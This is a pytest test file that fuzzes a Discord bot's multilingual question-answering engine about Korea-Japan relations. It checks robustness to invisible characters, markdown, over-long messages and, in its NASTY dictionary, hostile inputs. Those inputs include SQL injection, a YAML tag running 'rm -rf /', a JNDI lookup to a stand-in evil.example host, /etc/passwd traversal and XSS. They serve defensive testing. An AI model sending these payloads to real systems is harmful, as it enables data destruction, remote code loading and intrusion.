"""Hostile input to the engine: anything a Discord member can type is answered validly."""

from __future__ import annotations

import dataclasses
import json
import math
import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.cliask import answer_to_json
from bot.core.engine.answer import Engine
from bot.core.engine.enginestate import MAX_QUESTION_CHARS
from bot.core.engine.suggesting import AUTOCOMPLETE_LIMIT, CHOICE_NAME_LIMIT
from bot.core.knowledge.models import AliasGroup, Answer, KnowledgeBase, Suggestion
from bot.render import render_answer

DISCORD_MESSAGE_MAX = 4000
KINDS = {"fact", "passage", "none"}
DECLINE_REASONS = {"empty", "smalltalk", "low_confidence", "too_long"}
INVISIBLE = {"Cc", "Cf", "Cs"}

# Names in every script, so that the alias paths (Latin n-grams and the CJK regex) are exercised.
ALIASES = (
    AliasGroup("Liancourt Rocks", ("Dokdo", "Takeshima", "독도", "獨島", "竹島")),
    AliasGroup("South Korea", ("ROK", "Republic of Korea", "한국")),
    AliasGroup("comfort women", ("wartime sex slaves", "위안부", "慰安婦")),
    AliasGroup("Korean wave", ("Hallyu", "韓流", "한류")),
    AliasGroup("GSOMIA", ("military intelligence-sharing pact",)),
)

NASTY_CHARS = list(
    "\x00\x07\x1b\x7f\u0085\u00a0\u00ad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u200f"
    "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\u3000\ufeff"
    "\ufdfa\ufffd\ufffc\U000e0001\U000e0041\U0001f600\U0001f1ef\U0001f1f5\U0001f3f3\ufe0f"
    "독도위안부한국일본竹島獨島慰安婦韓流日韓条約ー々〜"
    "@#<>&*_~`|\\/[](){}:;'\"!?.,-=+%$^"
)
# Words members use (every script, and Discord markup) so that the examples also get answered.
DOMAIN_WORDS = [
    "dokdo", "takeshima", "liancourt", "rocks", "treaty", "1965", "comfort", "women", "korea",
    "japan", "trade", "apology", "gsomia", "when", "who", "what", "how", "many", "why", "kim",
    "dae", "jung", "abe", "moon", "park", "kono", "1993", "2015", "world", "cup", "hallyu",
    "독도는", "위안부", "문제", "竹島の領有権", "慰安婦問題", "韓流",
    "@everyone", "@here", "<@123>", "<@&456>", "<#789>", "```py", "```", "||spoiler||",
    "**bold**", ">", "quote", "[link](https://example.org)",
]  # fmt: skip

ANY_CHAR = st.one_of(
    st.characters(codec=None),
    st.characters(categories=["Cc", "Cf", "Cs", "Co", "Cn", "Zs", "Zl", "Zp", "Mn", "Me"]),
    st.sampled_from(NASTY_CHARS),
)
RAW_TEXT = st.text(ANY_CHAR, max_size=DISCORD_MESSAGE_MAX)
WORDY_TEXT = st.lists(
    st.one_of(st.sampled_from(DOMAIN_WORDS), st.text(ANY_CHAR, max_size=12)), max_size=400
).map(lambda words: " ".join(words)[:DISCORD_MESSAGE_MAX])
LONG_TEXT = st.text(ANY_CHAR, min_size=DISCORD_MESSAGE_MAX - 500, max_size=DISCORD_MESSAGE_MAX)
HOSTILE_TEXT = st.one_of(RAW_TEXT, WORDY_TEXT, LONG_TEXT)

HOSTILE = settings(
    max_examples=100,
    deadline=None,  # no timed assertions: how fast a call runs depends on the machine
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def outcome(answer: Answer) -> tuple[object, ...]:
    """What a member sees of an answer: answered or not, with which fact, how plainly."""
    return (answer.kind, answer.fact_id, answer.hedged)


@pytest.fixture(scope="module")
def engines(shipped_kb: KnowledgeBase) -> list[Engine]:
    """The shipped engine, and one over the same facts with a full multilingual alias table."""
    return [Engine(shipped_kb), Engine(dataclasses.replace(shipped_kb, aliases=ALIASES))]


def check_answer(answer: Answer, engine: Engine) -> None:
    """The invariants every Answer keeps, whatever the question."""
    assert isinstance(answer, Answer)
    assert answer.kind in KINDS
    assert math.isfinite(answer.score) and 0.0 <= answer.score <= 1.0
    assert answer.answered == (answer.kind != "none")
    assert isinstance(answer.question, str) and len(answer.question) <= MAX_QUESTION_CHARS
    # The echo of the question carries no invisible, bidi-override or control characters.
    assert not any(unicodedata.category(ch) in INVISIBLE for ch in answer.question)
    if answer.answered:
        assert answer.answer and answer.answer.strip()
        assert answer.sources
        assert all(view.quote and view.doc in engine.kb.sources for view in answer.sources)
        assert answer.reason == ""
    else:
        assert answer.answer is None and answer.sources == () and answer.fact_id is None
        assert answer.reason in DECLINE_REASONS
    assert (answer.kind == "fact") == (answer.fact_id is not None)
    if answer.fact_id is not None:
        assert engine.kb.fact(answer.fact_id) is not None
    for suggestion in answer.suggestions:
        assert engine.kb.fact(suggestion.fact_id) is not None
        assert suggestion.question and 0.0 <= suggestion.score <= 1.0
    for alternative in answer.alternatives:
        assert alternative.kind == "fact"
        check_answer(alternative, engine)


def check_json(answer: Answer) -> None:
    """The answer serialises to strict JSON that is valid UTF-8 and reads back the same."""
    data = answer_to_json(answer)
    text = json.dumps(data, ensure_ascii=False, allow_nan=False)
    text.encode("utf-8")  # a lone surrogate would make the Discord payload unsendable
    assert json.loads(text) == data
    assert data["answered"] == answer.answered and data["kind"] == answer.kind


def check_completions(choices: list[Suggestion], engine: Engine) -> None:
    """Autocomplete choices fit Discord: at most 25, names of 1-100 characters, real fact ids."""
    assert isinstance(choices, list) and len(choices) <= AUTOCOMPLETE_LIMIT
    for choice in choices:
        assert 1 <= len(choice.question) <= CHOICE_NAME_LIMIT
        assert len(choice.fact_id) <= CHOICE_NAME_LIMIT
        assert engine.kb.fact(choice.fact_id) is not None
        assert 0.0 <= choice.score <= 1.0
    assert len({c.fact_id for c in choices}) == len(choices)


# -- properties ------------------------------------------------------------------------------


@HOSTILE
@given(HOSTILE_TEXT)
def test_ask_never_fails_on_any_text(engines: list[Engine], text: str) -> None:
    """Any Unicode text up to 4,000 characters gets a valid Answer on every engine."""
    for engine in engines:
        answer = engine.ask(text)
        check_answer(answer, engine)
        check_json(answer)
        assert isinstance(render_answer(answer), str)


@HOSTILE
@given(HOSTILE_TEXT)
def test_complete_never_fails_on_any_text(engines: list[Engine], text: str) -> None:
    """Any partial input gets at most 25 valid autocomplete choices."""
    for engine in engines:
        check_completions(engine.complete(text), engine)


@st.composite
def partial_questions(draw: st.DrawFn, engine: Engine) -> str:
    """What a member has typed so far: a prefix of a real question, perhaps mangled."""
    fact = draw(st.sampled_from(engine.facts))
    question = draw(st.sampled_from(fact.questions))
    cut = draw(st.integers(0, len(question)))
    noise = draw(st.text(ANY_CHAR, max_size=3))
    return question[:cut] + noise


@HOSTILE
@given(st.data())
def test_complete_on_partial_real_questions(engines: list[Engine], data: st.DataObject) -> None:
    """Prefixes of real questions (with stray characters) give valid choices."""
    for engine in engines:
        partial = data.draw(partial_questions(engine))
        check_completions(engine.complete(partial), engine)
        check_answer(engine.ask(partial), engine)


@HOSTILE
@given(st.data())
def test_real_questions_survive_invisible_characters(
    engines: list[Engine], data: st.DataObject
) -> None:
    """A real question with zero-width/bidi characters sprinkled in gets the same answer."""
    engine = engines[0]
    question = data.draw(st.sampled_from([f.questions[0] for f in engine.facts]))
    sprinkled = "".join(
        ch + data.draw(st.sampled_from(["", "", "\u200b", "\u200f", "\u202e", "\ufeff", "\u2060"]))
        for ch in question
    )
    plain, noisy = engine.ask(question), engine.ask(sprinkled)
    assert (noisy.kind, noisy.fact_id, noisy.score) == (plain.kind, plain.fact_id, plain.score)


# -- specific nasty inputs -------------------------------------------------------------------

NASTY = {
    "4000 letters": "x" * DISCORD_MESSAGE_MAX,
    "4000 chars of words": ("when was the 1965 treaty signed and why " * 100)[:DISCORD_MESSAGE_MAX],
    "4000 one-letter words": "a " * (DISCORD_MESSAGE_MAX // 2),
    "4000 digits": "1 " * (DISCORD_MESSAGE_MAX // 2),
    "4000 hangul": "독" * DISCORD_MESSAGE_MAX,
    "4000 han": "竹島" * (DISCORD_MESSAGE_MAX // 2),
    "4000 emoji": "\U0001f600" * DISCORD_MESSAGE_MAX,
    "4000 flags": "\U0001f1ef\U0001f1f5" * (DISCORD_MESSAGE_MAX // 2),
    "4000 NFKC-expanding": "\ufdfa" * DISCORD_MESSAGE_MAX,
    "4000 combining marks": "a" + "\u0301" * (DISCORD_MESSAGE_MAX - 1),
    "only zero-width": "\u200b\u200c\u200d\ufeff\u2060" * 800,
    "only bidi controls": "\u202e\u202d\u2066\u2067\u2069\u200e\u200f" * 500,
    "only NUL": "\x00" * DISCORD_MESSAGE_MAX,
    "only whitespace": " \t\n\r\u3000\u00a0" * 600,
    "empty": "",
    "RTL override around a question": "\u202ewhen was the 1965 treaty signed?\u202c",
    "SQL injection": "'; DROP TABLE facts; -- when was the 1965 treaty signed?",
    "SQL union": "1' UNION SELECT * FROM users WHERE '1'='1",
    "YAML python tag": "!!python/object/apply:os.system ['rm -rf /']",
    "YAML billion laughs": "a: &a [lol, lol]\nb: &b [*a, *a, *a]\nc: [*b, *b]",
    "YAML document": "---\nfacts:\n  - id: pwned\n    answer: hacked\n...",
    "template injection": "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n {0.__class__}",
    "path traversal": "../../../../etc/passwd",
    "html": "<script>alert('dokdo')</script><img src=x onerror=alert(1)>",
    "regex bombs": "(a+)+$ " * 100 + "a" * 50 + "!",
    "markdown code fence": "```\nwhen was the 1965 treaty signed?\n```",
    "masked link": "[when was the 1965 treaty signed?](https://evil.example/x)",
    "surrogates": "\ud800\udfff\udbff dokdo \udc00",
}


@pytest.mark.parametrize("text", NASTY.values(), ids=NASTY.keys())
def test_nasty_input_gets_a_valid_answer_and_choices(
    engines: list[Engine], semantic_engine: Engine, text: str
) -> None:
    """Each known-nasty message is answered or declined validly, with valid JSON, by the
    lexical engines and by the engine as the product runs it (its embedder encodes the text)."""
    for engine in [*engines, semantic_engine]:
        answer = engine.ask(text)
        check_answer(answer, engine)
        check_json(answer)
        check_completions(engine.complete(text), engine)


@pytest.mark.parametrize("stray", ["\udcff", "\ud800", "\udbff\udbff"])
def test_a_lone_surrogate_is_read_as_nothing(
    engines: list[Engine], semantic_engine: Engine, stray: str
) -> None:
    """A lone surrogate (a command line's undecodable byte, a JSON "\\ud800" escape) is dropped:
    the question is answered as it would be without it, and nothing echoed carries it."""
    for engine in [*engines, semantic_engine]:
        plain = engine.ask("who controls dokdo")
        answer = engine.ask(f"who controls {stray}dokdo{stray}")
        assert (answer.kind, answer.fact_id) == (plain.kind, plain.fact_id) != ("none", None)
        check_json(answer)
        shown = engine.answer_fact(plain.fact_id or "", f"who controls dokdo {stray}")
        assert shown is not None
        check_json(shown)
        found = engine.search_facts(f"dokdo{stray}")
        assert [s.fact_id for s in found] == [s.fact_id for s in engine.search_facts("dokdo")]
        check_completions(engine.complete(f"dokdo {stray}"), engine)


@pytest.mark.parametrize(
    "text",
    ["\u200b" * 10, "\u200b\u200c\u200d\ufeff\u2060" * 800, "\u202e\u200f", "\x00\x00", " \t\n "],
    ids=["zero-width", "zero-width-4000", "bidi", "nul", "whitespace"],
)
def test_invisible_only_message_is_declined_as_empty(engine: Engine, text: str) -> None:
    """A message with nothing visible is declined as empty, not searched."""
    answer = engine.ask(text)
    assert (answer.kind, answer.reason, answer.question) == ("none", "empty", "")


@pytest.mark.parametrize(
    "mention",
    [
        "@everyone",
        "@here",
        "<@123456789012345678>",
        "<@!123456789012345678>",
        "<@&123456789012345678>",
    ],
)
def test_mentions_are_plain_text_to_the_engine(engine: Engine, mention: str) -> None:
    """A mention is neither stripped nor acted on: the echo keeps it and the JSON stays valid."""
    question = f"{mention} when was the 1965 treaty signed?"
    answer = engine.ask(question)
    check_answer(answer, engine)
    check_json(answer)
    assert json.loads(json.dumps(answer_to_json(answer)))["question"] == question


@pytest.mark.parametrize("language", ["py", "yaml", "ansi", "md"])
def test_a_code_blocks_language_is_not_read_as_a_word(engines: list[Engine], language: str) -> None:
    """The language after a code block's fence is no word of the question: the block gets the
    answer the same block without it gets ("```yaml" declined the 1965 treaty's date)."""
    for engine in engines:
        for question in (
            "when was the 1965 treaty signed?",
            "who controls dokdo",
            "독도는 누구 땅이야",
        ):
            bare = engine.ask(f"```\n{question}\n```")
            tagged = engine.ask(f"```{language}\n{question}\n```")
            assert bare.kind == "fact", question
            assert outcome(tagged) == outcome(bare), question


@pytest.mark.parametrize(
    "wrap",
    [
        "`{}`",
        "**{}**",
        "*{}*",
        "__{}__",
        "~~{}~~",
        "||{}||",
        "> {}",
        ">>> {}",
        "# {}",
        "-# {}",
        "```{}```",
        "```\n{}\n```",
    ],
    ids=repr,
)
def test_discord_markdown_around_a_question_changes_no_answer(
    semantic_engine: Engine, wrap: str
) -> None:
    """A question in bold, in a spoiler, quoted, as a heading or in a code block reads as
    Discord shows it: the same answer, as plainly. The embedding model read the markdown as
    words ("`what is the asian womens fund`" reached another fact)."""
    for question in (
        "what is the asian womens fund",
        "when was the 1965 treaty signed?",
        "who controls dokdo",
        "독도는 누구 땅이야",
    ):
        plain, wrapped = semantic_engine.ask(question), semantic_engine.ask(wrap.format(question))
        assert outcome(wrapped) == outcome(plain), question


@pytest.mark.parametrize("emoticon", ["<3", "<333", "</3", ":3"])
def test_a_heart_after_a_question_changes_no_answer(
    engines: list[Engine], semantic_engine: Engine, emoticon: str
) -> None:
    """ "<3" or ":3" beside a question is no number 3: the question gets the answer it gets
    without it, as plainly (26 of the 300 regression questions were declined with "<3")."""
    for engine in [*engines, semantic_engine]:
        for question in (
            "who did japan recognize as the only legit government of the whole peninsula",
            "whose efforts get complicated by all the tokyo-seoul tension",
            "who controls dokdo",
        ):
            plain = engine.ask(question)
            for typed in (f"{question} {emoticon}", f"{emoticon} {question}"):
                answer = engine.ask(typed)
                assert outcome(answer) == outcome(plain), typed


@pytest.mark.parametrize("ending", ["??", "???", "?!", " ?", "?!?!"])
def test_a_question_mark_typed_twice_or_after_a_space_changes_no_answer(
    semantic_engine: Engine, ending: str
) -> None:
    """A question ended by several question marks, or by one after a space, gets the answer
    it gets with one: the embedding model read each mark ("독도에 실제로 사는 사람 있어??" was
    declined where "...있어?" is answered)."""
    for question in (
        "독도에 실제로 사는 사람 있어",
        "how were korean comfort women enlisted according to the world conference",
        "which sea are the liancourt rocks in",
        "what did seoul object violently to about japanese politicians",
    ):
        plain, typed = semantic_engine.ask(question + "?"), semantic_engine.ask(question + ending)
        assert outcome(typed) == outcome(plain), question + ending


@pytest.mark.parametrize("quotes", ['"{}"', "“{}”", "「{}」", "'{}'"], ids=repr)
def test_a_question_in_quotation_marks_changes_no_answer(
    semantic_engine: Engine, quotes: str
) -> None:
    """A question quoted whole gets the answer it gets without the quotes, as plainly: the
    embedding model read them ("독도에 실제로 사는 사람 있어?" in quotes was declined)."""
    for question in (
        "독도에 실제로 사는 사람 있어?",
        "who did japan recognize as the only legit government of the whole peninsula",
        "what is the asian womens fund",
    ):
        plain, typed = semantic_engine.ask(question), semantic_engine.ask(quotes.format(question))
        assert outcome(typed) == outcome(plain), question


@pytest.mark.parametrize(
    ("half", "full"),
    [
        ("竹島は日本の領土､以上｡", "竹島は日本の領土、以上。"),
        ("2002年のﾜｰﾙﾄﾞｶｯﾌﾟ懐かしい", "2002年のワールドカップ懐かしい"),
        ("竹島のｿｰｽは？", "竹島のソースは？"),
    ],
)
def test_half_width_katakana_is_read_as_katakana_by_the_rules(
    engines: list[Engine], semantic_engine: Engine, half: str, full: str
) -> None:
    """Half-width katakana and Japanese punctuation get the answer the usual width gets: the
    rules read the message as typed, and saw no remark ending in "｡" and no "ソース" in "ｿｰｽ"
    (a remark was answered, a request for a source declined)."""
    for engine in [*engines, semantic_engine]:
        usual, typed = engine.ask(full), engine.ask(half)
        assert (typed.kind, typed.fact_id, typed.hedged, typed.reason) == (
            usual.kind,
            usual.fact_id,
            usual.hedged,
            usual.reason,
        ), half


@pytest.mark.parametrize(
    "markup",
    [
        "<t:1234567890:R>",
        "<t:-157766400>",
        "</ask:123456789012345678>",
        "</kb edit:123456789012345678>",
        "<id:customize>",
        "<@&123456789012345678>",
    ],
)
def test_markup_discord_renders_in_place_is_not_read_as_words(
    engines: list[Engine], semantic_engine: Engine, markup: str
) -> None:
    """A timestamp, a slash command's mention or a server guide's channel beside a question is
    markup, like a mention: the question is answered as it is without it (its digits and the
    command's name were read as words the knowledge does not know, and declined it)."""
    for engine in [*engines, semantic_engine]:
        plain = engine.ask("who controls dokdo")
        for typed in (f"{markup} who controls dokdo", f"who controls dokdo {markup}"):
            answer = engine.ask(typed)
            assert outcome(answer) == outcome(plain), typed


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000,
        "dokdo " * 200_000,
        "독도는 " * 250_000,
        "\u200b" * 1_000_000,
        "\x00" * 1_000_000,
        "\U0001f600" * 1_000_000,
    ],
    ids=["letters", "words", "hangul", "zero-width", "nul", "emoji"],
)
def test_million_character_message_is_declined(engine: Engine, text: str) -> None:
    """A million characters are declined as too long, and the echo is cut to the limit."""
    answer = engine.ask(text)
    assert (answer.kind, answer.reason) == ("none", "too_long")
    assert len(answer.question) <= MAX_QUESTION_CHARS
    check_json(answer)
    check_completions(engine.complete(text), engine)


def test_an_over_long_message_is_refused_before_normalisation(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over-long input is refused before NFKC sees it, so NFKC expansion cannot slow it."""
    normalized: list[int] = []
    real_normalize = unicodedata.normalize

    def spy(form: str, text: str) -> str:
        normalized.append(len(text))
        return real_normalize(form, text)  # type: ignore[arg-type]

    monkeypatch.setattr(unicodedata, "normalize", spy)
    size = 300_000  # already 75x too long
    plain = engine.ask("x" * size)
    expanding = engine.ask("\ufdfa" * size)  # NFKC turns each into 18 characters
    assert plain.reason == expanding.reason == "too_long"
    assert normalized, "NFKC was never called; the spy no longer sees the engine's normalising"
    assert max(normalized) <= MAX_QUESTION_CHARS, f"NFKC saw {max(normalized)} characters"


def test_engine_does_not_change_the_knowledge(engine: Engine) -> None:
    """Injection-looking questions leave the knowledge base exactly as it was."""
    before = engine.kb.facts
    for text in NASTY.values():
        engine.ask(text)
        engine.complete(text)
    assert engine.kb.facts is before
    assert engine.kb.fact("pwned") is None


@pytest.mark.parametrize("limit", [-5, 0, 1, 25, 26, 10_000])
def test_complete_limit_is_clamped(engine: Engine, limit: int) -> None:
    """A caller's limit never yields more than 25 choices or a negative slice."""
    expected = max(0, min(limit, AUTOCOMPLETE_LIMIT))
    assert len(engine.complete("", limit=limit)) == expected  # empty input lists facts
    assert len(engine.complete("treaty", limit=limit)) <= expected


def test_a_message_that_nfkc_grows_past_the_limit_is_refused_at_once(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Under the limit as typed, over it once NFKC has grown it ("ﷺ" is 18 characters): refused
    as too long after one normalisation, not read again by every rule (2.6 s for 3,990)."""
    calls: list[int] = []
    real_normalize = unicodedata.normalize

    def spy(form: str, text: str) -> str:
        calls.append(len(text))
        return real_normalize(form, text)  # type: ignore[arg-type]

    monkeypatch.setattr(unicodedata, "normalize", spy)
    answer = engine.ask("dokdo " + "\ufdfa" * (DISCORD_MESSAGE_MAX - 10))
    assert (answer.kind, answer.reason) == ("none", "too_long")
    assert len(answer.question) <= MAX_QUESTION_CHARS
    assert 0 < len(calls) <= 2, f"normalised {len(calls)} times"


@pytest.mark.parametrize(
    "typed",
    [
        lambda q: q.upper(),
        lambda q: "".join(c.upper() if i % 2 else c for i, c in enumerate(q)),
        lambda q: "\u200b".join(q),
        lambda q: q.replace(" ", "\u00ad "),
        lambda q: unicodedata.normalize("NFD", q),
        lambda q: q.replace(" ", "\ufe0f "),
        lambda q: q.replace(" ", "\u3164"),
    ],
    ids=[
        "capitals",
        "alternating-case",
        "zero-width-between-letters",
        "soft-hyphens",
        "decomposed",
        "variation-selectors",
        "hangul-filler-for-spaces",
    ],
)
def test_both_matchers_read_the_question_however_it_is_typed(
    semantic_engine: Engine, typed: object
) -> None:
    """The semantic matcher reads the message as the lexical one does: shouted or in
    alternating case ("wHo CoNtRoLs DoKdO" was hedged, and "WhEn WaS tHe 1965 TrEaTy SiGnEd"
    answered with another fact), with invisible
    characters (a variation selector after each word too), with Discord's blank (U+3164) for
    its spaces, or with Korean typed as decomposed letters, a shipped phrasing gets the same
    answer, as plainly. (Capitals had moved 141 of 203 answers from plain to hedged; a
    decomposed Korean source question reached the claim's fact instead of its footnote's.)"""
    assert callable(typed)
    questions = [
        "who controls dokdo",
        "was the joint world cup a success",
        "what did the new york times say about comfort women",
        "2008년 위안부 생존자 지원금 근거",
        "아시아여성기금이 뭐야?",
        "日韓基本条約はいつ結ばれた？",
    ]
    for question in questions:
        plain, retyped = semantic_engine.ask(question), semantic_engine.ask(typed(question))
        assert outcome(retyped) == outcome(plain), question


REFUSED_FUND = "한국 피해자들은 왜 아시아여성기금 거부했어?"


@pytest.mark.parametrize(
    ("plain", "chatty"),
    [
        (REFUSED_FUND, REFUSED_FUND.replace("왜", "왜캐")),
        (REFUSED_FUND, REFUSED_FUND.replace("왜", "왜케")),
        (REFUSED_FUND, f"근데 {REFUSED_FUND}"),
        ("일본 법원은 왜 위안부 소송 기각했어?", "일본 법원은 위안부 소송 왜임?"),
    ],
)
def test_korean_chat_spellings_of_question_words_change_no_answer(
    semantic_engine: Engine, plain: str, chatty: str
) -> None:
    """Korean chat's own spellings of the question words (왜캐, 왜케, 왜임 for 왜) and the
    adverbs before a question (근데) carry no topic: the question gets the answer it gets
    without them. Read as words the knowledge does not know, they declined it."""
    assert outcome(semantic_engine.ask(chatty)) == outcome(semantic_engine.ask(plain))


@pytest.mark.parametrize(
    ("era", "common"),
    [
        ("昭和40年の日韓基本条約", "1965年の日韓基本条約"),
        ("日韓基本条約は昭和４０年に結ばれた？", "日韓基本条約は1965年に結ばれた？"),
        ("平成27年の慰安婦合意", "2015年の慰安婦合意"),
        ("明治43年の韓国併合", "1910年の韓国併合"),
    ],
)
def test_a_japanese_era_year_is_read_as_the_year_it_is(
    semantic_engine: Engine, era: str, common: str
) -> None:
    """A year counted in a Japanese era (昭和40年 is 1965) gets the answer the common era's
    year gets, and the question is shown as the member typed it: the knowledge counts years
    only from the common era, so "昭和40年の日韓基本条約" was declined."""
    typed = semantic_engine.ask(era)
    assert outcome(typed) == outcome(semantic_engine.ask(common))
    assert typed.kind == "fact"
    assert typed.question.startswith(era[:4])


@pytest.mark.parametrize(
    ("plain", "marked"),
    [
        ("what is the kono statement", "what is the kôno statement"),
        (
            "what did shinzo abe say about comfort women",
            "what did shinzô abe say about comfort women",
        ),
    ],
)
def test_a_name_romanised_with_a_circumflex_is_the_name(
    engines: list[Engine], plain: str, marked: str
) -> None:
    """Japanese names romanised in the Kunrei style (Kôno, Shinzô) are the names the aliases
    list as Kono and Kōno: the question gets the answer it gets without the mark (it was
    declined, the marked word unknown to the knowledge)."""
    for engine in engines:
        assert outcome(engine.ask(marked)) == outcome(engine.ask(plain)), marked


@pytest.mark.parametrize(
    ("spaced", "unspaced"),
    [
        ("사토 에이사쿠 방한 왜 특별했어?", "사토에이사쿠 방한 왜 특별했어?"),
        ("미노베 료키치 누구야?", "미노베료키치 누구야?"),
        ("독도 누구 거야?", "독도 누구거야?"),
    ],
)
def test_a_korean_name_typed_without_its_space_is_the_name(
    semantic_engine: Engine, spaced: str, unspaced: str
) -> None:
    """Korean spacing varies: a name the aliases list with a space ("사토 에이사쿠", "누구 거")
    typed without it gets the answer it gets with it (it was declined)."""
    assert outcome(semantic_engine.ask(unspaced)) == outcome(semantic_engine.ask(spaced))


@pytest.mark.parametrize("name", ["지소미아", "GSOMIA"])
def test_a_name_asked_with_ran_is_asked_what_it_is(semantic_engine: Engine, name: str) -> None:
    """ "지소미아란?" asks what GSOMIA is, as "지소미아가 뭐야?" does: the 란 left after the name was
    read as a word the tokenizer could not read, and the question declined."""
    assert semantic_engine.ask(f"{name}란?").kind == "fact"


@pytest.mark.parametrize("question", ["이란 일본 관계 어때?", "한국이랑 이란 사이 어때?"])
def test_iran_is_no_particle_as_a_word_of_its_own(semantic_engine: Engine, question: str) -> None:
    """이란 is the particle "what is" after a name ("GSOMIA 이란?", "영유권이란?"), but as a word
    of its own at the start or after a Korean word it is Iran: dropped as a particle, these
    questions about Iran were answered with the fact on Korea and Japan's relations."""
    assert semantic_engine.ask(question).kind == "none"
    assert semantic_engine.ask("GSOMIA 이란?").kind == "fact"
